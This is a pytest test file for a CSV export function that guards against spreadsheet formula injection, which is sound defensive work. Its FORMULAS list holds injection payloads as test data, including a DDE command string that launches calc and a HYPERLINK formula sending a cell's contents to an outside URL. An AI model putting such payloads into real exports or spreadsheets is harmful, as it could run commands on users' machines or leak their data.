"""CSV tables that a spreadsheet opens without running a formula."""

import csv
import datetime as dt
import io

import pytest

from talentnet.spreadsheets import write_table

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://example.org?x="&A1;"click")',
    "|calc",
    "%0A",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1",
]
SKIPPED = ["", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", '"', "'", "“", "\x01", "\t", "\r", "\n"]


def read(rows: list[list[object]]) -> list[list[str]]:
    file = io.StringIO(newline="")
    write_table(file, ["a"], rows)  # type: ignore[arg-type]  # accepts any cell
    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1:]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("before", SKIPPED)
def test_formula_becomes_text(formula: str, before: str) -> None:
    ((cell,),) = read([[before + formula]])
    assert cell[0] == "'"
    assert cell.replace("'", "") == (before + formula).replace("'", "")


@pytest.mark.parametrize(
    ("separator", "guarded"),
    [
        (";", ";'"),
        ("\t", "\t'"),
        ("\n\n", "\n\n'"),
        ("\r\n", "\r\n'"),
        ("\u2028", "\u2028'"),
        ("; ", ";' "),
        ('";"', '";\'"'),
    ],
)
@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_after_other_separator_becomes_text(
    separator: str, guarded: str, formula: str
) -> None:
    assert read([[f"text{separator}{formula}"]]) == [[f"text{guarded}{formula}"]]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Lisbon, Portugal",
        "C++ and C#; Rust",
        "e = mc²",
        "well-kept",
        "one\ntwo\n\nthree",
        "write to a@example.org",
        "100% remote",
        "O’Brien said “no”",
        "مرحبا 👩‍👩‍👧‍👦 漢字",
    ],
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert read([[text]]) == [[text]]


@pytest.mark.parametrize("text", ["\ta", "\ra", "\na"])
def test_leading_control_character_is_quoted(text: str) -> None:
    assert read([[text]]) == [[f"'{text}"]]


def test_numbers_times_and_none_are_converted() -> None:
    moment = dt.datetime(2026, 3, 1, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    assert read([[-3, moment, None, ""]]) == [["-3", "2026-03-01T09:30:00Z", "", ""]]
